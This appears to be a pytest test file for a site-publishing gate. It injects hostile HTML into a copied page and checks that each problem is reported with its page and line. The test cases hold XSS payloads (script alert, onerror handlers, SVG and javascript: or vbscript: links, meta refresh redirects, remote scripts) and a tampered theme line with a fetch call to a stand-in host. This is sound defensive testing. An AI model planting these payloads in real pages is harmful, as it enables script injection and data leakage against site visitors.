"""The gate over a real site, into one page of which something bad was put: it is named with its page and line."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from publish.gating import problems

from digest.publish.policy import with_policy

URL = "https://harbour.example/press/"
PAGE = "stories/night-ferry-approved/index.html"
IN_ARTICLE = '<div class="summary">'
IN_HEAD = "</head>"
IN_HEADER = '<div class="md-header__ellipsis">'
IN_ASIDE = '<div class="md-content" data-md-component="content">'
FIRST = '<meta charset="utf-8">'


@pytest.fixture(scope="module")
def whole(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the sample's site, with its policies."""
    folder = tmp_path_factory.mktemp("gate") / "site"
    shutil.copytree(built, folder)
    for path in folder.rglob("*.html"):
        path.write_bytes(with_policy(path.read_bytes()))
    return folder


@pytest.fixture
def page(whole: Path) -> Iterator[Path]:
    path = whole / PAGE
    kept = path.read_bytes()
    yield path
    path.write_bytes(kept)


def put(page: Path, before: str, bad: str) -> int:
    """Put something into a page on a line of its own, and say on which."""
    text = page.read_text(encoding="utf-8")
    assert before in text
    head, _, tail = text.partition(before)
    page.write_text(f"{head}\n{bad}{before}{tail}", encoding="utf-8")
    return head.count("\n") + 2


def test_a_site_as_it_was_built_passes(whole: Path) -> None:
    assert problems(whole, URL, policies=True) == []


@pytest.mark.parametrize(
    ("before", "bad", "told"),
    [
        (IN_ARTICLE, "<script>alert(1)</script>", "<script> does not belong in an article"),
        (IN_ARTICLE, "<img src=x onerror=alert(1)>", "event handler onerror"),
        (IN_ARTICLE, "<svg><animate attributeName=href></animate></svg>", "<animate> does not belong"),
        (IN_ARTICLE, "<svg><use href='#a'></use></svg>", "<use> does not belong"),
        (IN_ARTICLE, "<svg><foreignObject></foreignObject></svg>", "<foreignObject> does not belong"),
        (IN_ARTICLE, "<svg><a xlink:href='javascript:x'>a</a></svg>", "attribute xlink:href"),
        (IN_ARTICLE, "<iframe srcdoc='x'></iframe>", "<iframe> does not belong"),
        (IN_ARTICLE, "<input autofocus>", "<input> does not belong in an article"),
        (IN_ARTICLE, "<button formaction='x'>a</button>", "<button> does not belong in an article"),
        (IN_ARTICLE, "<p style='position:fixed'>a</p>", "attribute style"),
        (IN_ARTICLE, "<p data-md-component='search'>a</p>", "attribute data-md-component in an article"),
        (IN_ARTICLE, "<a href='#x' ping='https://t.example/'>a</a>", "attribute ping"),
        (IN_ARTICLE, "<a href='vbscript:x'>a</a>", "leads to 'vbscript:x'"),
        (IN_ARTICLE, "<a href='https://[x'>a</a>", "cannot be read"),
        (IN_ARTICLE, "<q cite='javascript:x'>a</q>", "leads to 'javascript:x'"),
        (IN_ARTICLE, "<img alt=a src='\\\\t.example/x.png'>", "another host"),
        (IN_ARTICLE, "<img alt=a srcset='https://t.example/x.png'>", "attribute srcset"),
        (IN_ARTICLE, "<p id=what-happened>a</p>", "two elements have the id what-happened"),
        (IN_ARTICLE, "<p id=__search>a</p>", "two elements have the id __search"),
        (IN_ARTICLE, "<a href='../../nowhere/'>a</a>", "leads nowhere"),
        (IN_ARTICLE, "<a href='../../about/#nowhere'>a</a>", "a place that about/index.html does not have"),
        (IN_HEAD, "<script>alert(1)</script>", "<script> is not one of the theme's: 'alert(1)'"),
        (IN_HEAD, "<script type=module>x()</script>", "<script> is not one of the theme's"),
        (IN_HEAD, "<script src='https://t.example/a.js'></script>", "another host"),
        (IN_HEAD, "<script src='data:text/javascript,1'></script>", "leads to 'data:"),
        (IN_HEAD, "<meta http-equiv=refresh content='0; url=https://t.example/'>", "<meta> leads away"),
        (IN_HEAD, "<meta http-equiv=refresh content='0; url=javascript:x'>", "<meta> leads away"),
        (IN_HEAD, "<meta http-equiv=set-cookie content=a>", "<meta> sets set-cookie"),
        (IN_HEAD, "<base href='https://t.example/'>", "<base> does not belong in a page"),
        (IN_HEAD, "<style>p{}</style>", "<style> does not belong in a page"),
        (IN_HEAD, "<link rel=stylesheet href='//t.example/a.css'>", "another host"),
        (IN_HEAD, "<link rel=preconnect href='https://t.example/'>", "stands to the page as 'preconnect'"),
        (IN_HEADER, "<object data=x></object>", "<object> does not belong in a page"),
        (IN_HEADER, "<p onmouseover=x()>a</p>", "event handler onmouseover"),
        (IN_ASIDE, "<marquee>a</marquee>", "<marquee> does not belong in a page"),
        (IN_ASIDE, "<a href='data:text/html,x'>a</a>", "leads to 'data:"),
    ],
)
def test_what_was_put_into_a_page_is_found_with_its_place(
    whole: Path, page: Path, before: str, bad: str, told: str
) -> None:
    line = put(page, before, bad)
    found = [problem for problem in problems(whole, URL, policies=True) if told in problem]
    assert found
    assert found[0].startswith(f"{PAGE}:{line}: ")


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ('http-equiv="Content-Security-Policy"', 'name="was"', "has 0 content security policies"),
        ("script-src 'self'", "script-src 'self' 'unsafe-inline'", "another content security policy"),
        (FIRST, f"{FIRST}<link rel=icon href='../../assets/favicon.svg'>", "too late"),
        ("</head>", '<meta http-equiv="content-security-policy" content="x"></head>', "has 2 content security"),
    ],
)
def test_a_page_without_its_own_policy_is_found(whole: Path, page: Path, old: str, new: str, told: str) -> None:
    page.write_text(page.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    assert any(problem.startswith(f"{PAGE}: ") and told in problem for problem in problems(whole, URL, policies=True))


def test_a_page_whose_theme_script_was_changed_is_found(whole: Path, page: Path) -> None:
    text = page.read_text(encoding="utf-8")
    page.write_text(text.replace("__md_hash=e", "leak=fetch('//t.example'),__md_hash=e", 1), encoding="utf-8")
    assert any("is not one of the theme's" in problem for problem in problems(whole, URL, policies=True))
